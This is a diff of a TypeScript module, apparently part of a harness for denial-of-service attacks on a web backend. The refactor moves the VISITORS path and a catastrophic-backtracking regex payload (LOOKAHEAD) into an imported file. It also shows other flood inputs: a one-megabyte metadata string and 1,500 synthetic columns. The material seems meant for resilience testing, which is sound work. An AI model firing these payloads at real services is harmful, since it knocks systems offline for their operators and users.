@@ -1,5 +1,6 @@
+import { LOOKAHEAD, VISITORS } from '../../attacks/aims/reads.js'
+import type { Asked } from '../../attacks/ask.js'
 import { stranger, times } from '../../attacks/attack.js'
-import type { Asked } from '../../attacks/target.js'
 
 /** What an attacker knows of the server: all of it is in its pages. */
 export interface Aim {
@@ -14,12 +15,10 @@ export interface Flood {
   request(aim: Aim, place: number): Asked & { from: string; path: string }
 }
 
-const VISITORS = '/-/backend/rest/v1/visitors'
 const WEB_CALL = '/-/platform/call/web'
 const readerOf = ({ keys }: Aim) => ({ apikey: keys.publishable, 'x-visitor-slug': 'default' })
 const callerOf = ({ keys }: Aim) => ({ authorization: `Bearer ${keys.platformPublic}` })
 const METADATA = { MEGABYTE: 'x'.repeat(1_000_000) }
-const LOOKAHEAD = encodeURIComponent(`(?=(a|a?)+$)${'(?=.*.*.*.*.*b)'.repeat(20)}`)
 const COLUMNS = times(1_500).map((place) => `c${place}:system`)
 
 export const FLOODS: readonly Flood[] = [
